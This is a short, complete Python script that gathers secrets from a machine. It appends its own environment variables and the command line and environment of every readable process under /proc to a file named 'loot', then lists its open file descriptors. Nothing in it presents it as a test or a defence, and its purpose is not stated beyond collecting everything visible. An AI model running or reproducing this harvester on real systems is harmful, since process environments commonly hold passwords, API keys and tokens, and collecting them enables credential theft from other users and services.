"""Write down every process, environment and open file that can be seen."""

import glob
import os

with open("loot", "ab") as loot:
    loot.write(repr(dict(os.environ)).encode())
    for path in [*glob.glob("/proc/[0-9]*/cmdline"), *glob.glob("/proc/[0-9]*/environ")]:
        try:
            with open(path, "rb") as file:
                loot.write(file.read())
        except OSError:
            pass
print(sorted(int(fd) for fd in os.listdir("/proc/self/fd"))[:-1])
